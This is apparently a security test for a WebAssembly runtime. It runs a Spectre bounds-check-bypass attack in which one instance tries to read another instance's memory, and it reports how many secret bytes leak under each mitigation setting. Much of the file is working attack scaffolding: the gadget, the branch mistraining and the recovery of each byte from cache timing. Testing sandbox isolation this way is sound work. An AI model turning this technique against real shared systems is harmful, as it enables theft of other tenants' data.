"""Does a wrong guess of this processor give away what a guest must not read? ``python -m tests.escape.spectre``.

The victim is a guest's own function: it compares an index with a limit, as programs do, loads a byte there and touches
one of 256 lines by its value. The processor is trained with good indices, limit and length of the memory are flushed,
and it is called with an index that leads to a byte of *another* instance. It returns without having loaded anything;
what counts is which line is cached afterwards.

The attacker is better off than a guest could be: flushing and timing are done by native code (a guest would have to
make a clock and evict lines, which takes longer and is as good in the end). The memory has 64-bit addresses: guard
pages alone leave nothing to guess, since no comparison decides where a 32-bit index leads.
"""

from __future__ import annotations

import argparse
import ctypes
import random
import shutil
import subprocess
import sys
import tempfile
from functools import cache
from pathlib import Path
from typing import Any, Final, NamedTuple

import wardian
from tests.support import assemble

STRIDE: Final = 4096
GOOD: Final = 16
LINES: Final = 1 << 20
LIMIT: Final = 64 << 10
BIAS: Final = 1 << 40
"""Added to every index, so that Python's numbers are all of one length, and unpacked by the same branches."""
TEXT: Final = f"""(module (memory (export "memory") i64 48)
  (func (export "victim") (param $at i64) (result i32)
    (local.set $at (i64.sub (local.get $at) (i64.const {BIAS})))
    (if (result i32) (i64.lt_u (local.get $at) (i64.load (i64.const {LIMIT})))
      (then (i32.load8_u offset={LINES} (i64.mul (i64.const {STRIDE})
        (i64.load8_u (local.get $at)))))
      (else (i32.const 0)))))"""
SOURCE: Final = Path(__file__).with_name("spectre_native.c")


class Outcome(NamedTuple):
    """``right``: bytes of the secret that were read, of ``total``; chance gives one in 256."""

    right: int
    total: int


def compiler() -> str | None:
    """A C compiler, if this is a machine the helper is for."""
    return shutil.which("cc") if Path("/proc/cpuinfo").read_text().find("clflush") >= 0 else None


@cache
def helper() -> Any:
    """The native helper, compiled now."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "helper.so"
        command = [compiler() or "cc", "-O1", "-shared", "-fPIC", "-o", str(path), str(SOURCE)]
        subprocess.run(command, check=True, capture_output=True)
        library = ctypes.PyDLL(str(path))
    library.least_time.restype = ctypes.c_ulong
    library.least_time.argtypes = [ctypes.c_void_p, ctypes.c_int]
    pointers = [ctypes.c_void_p] * 3
    library.attack.argtypes = [
        ctypes.py_object, ctypes.c_void_p, ctypes.c_int, ctypes.py_object, *pointers, ctypes.c_int, ctypes.c_int,
        ctypes.c_ulong, ctypes.c_void_p,
    ]  # fmt: skip
    library.attack.restype = None
    return library


def probe(config: wardian.Config, size: int = 16, rounds: int = 200, seed: int = 1) -> Outcome:
    """Try to read ``size`` random bytes of another instance."""
    library = helper()
    module = wardian.Module(assemble(TEXT), wardian.Engine(config))
    victim, other = module.instantiate(), module.instantiate()
    for instance in (victim, other):
        instance.exports.victim(BIAS)  # compiled
    if _memory(victim).base > _memory(other).base:
        victim, other = other, victim
    mine, its = _memory(victim), _memory(other)
    secret = random.Random(seed).randbytes(size)
    view = other.exports.memory.view()
    view[4096 : 4096 + size] = secret
    own = victim.exports.memory.view()
    own[LIMIT : LIMIT + 8] = (GOOD).to_bytes(8, "little")
    for line in range(256):
        own[LINES + line * STRIDE] = 1  # a page of its own each, not all the same page of zeros
    lines = mine.base + LINES
    threshold = (library.least_time(lines, 1) + library.least_time(lines, 0)) // 2
    numbers = [BIAS + i for i in range(GOOD)]
    good = (ctypes.py_object * GOOD)(*numbers)
    right = 0
    for at in range(size):
        _ = view[4096 + at]  # the secret is in use, as secrets are
        hits = (ctypes.c_uint32 * 256)()
        bad = BIAS + its.base + 4096 + at - mine.base
        library.attack(
            victim.exports.victim, good, GOOD, bad, mine.base + LIMIT, mine.block.address + 8, lines, STRIDE, rounds,
            threshold, hits,
        )  # fmt: skip
        found = list(hits)
        found[0] = 0  # what good indices load, and what masks leave
        right += found.index(max(found)) == secret[at] and max(found) > 0
    return Outcome(right, size)


def _memory(instance: Any) -> Any:
    return instance._data.memories[0]


LEVELS: Final = tuple(
    (opt, checks, level)
    for opt in ("O2", "baseline")
    for checks in ("explicit", "masked")
    for level in ("off", "basic", "full")
)


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.escape.spectre", description=__doc__.partition("\n")[0])
    parser.add_argument("--bytes", type=int, default=32)
    parser.add_argument("--rounds", type=int, default=500)
    args = parser.parse_args(argv)
    print(f"bytes of another instance's memory that were read, of {args.bytes}:")
    for opt, checks, level in LEVELS:
        config = wardian.Config(opt=opt, checks=checks, spectre=level, cache=False)  # type: ignore[arg-type]
        outcome = probe(config, args.bytes, args.rounds)
        print(f"  {opt:<9}{checks:<9}spectre={level:<6}{outcome.right:>4}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
